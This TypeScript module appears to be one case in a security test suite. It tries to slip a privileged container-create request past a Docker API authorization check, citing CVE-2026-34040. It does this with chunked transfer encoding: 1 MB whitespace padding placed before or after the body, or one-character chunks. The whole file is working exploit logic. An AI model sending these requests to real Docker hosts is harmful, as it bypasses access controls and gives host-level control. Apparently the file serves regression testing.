import { type Attempt, container, each, request, v } from './book';

export const attempt: Attempt = {
  title: 'hide a long body in chunks without a length',
  source: 'CVE-2026-34040: what was buffered for the check ended before the body did',
  async try(world) {
    const body = JSON.stringify(container(world, { HostConfig: { Privileged: true } }));
    const chunk = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n`;
    const head = ['Content-Type: application/json', 'Transfer-Encoding: chunked', 'Connection: close'];
    return each([`${chunk(' '.repeat(1024 * 1024))}${chunk(body)}0\r\n\r\n`, `${chunk(body)}${chunk(' '.repeat(1024 * 1024))}0\r\n\r\n`,
      `${[...body].map(chunk).join('')}0\r\n\r\n`], (chunks) =>
      world.send(request(`POST ${v}/containers/create HTTP/1.1`, [`Host: ${world.address}`, ...head], chunks)));
  },
};
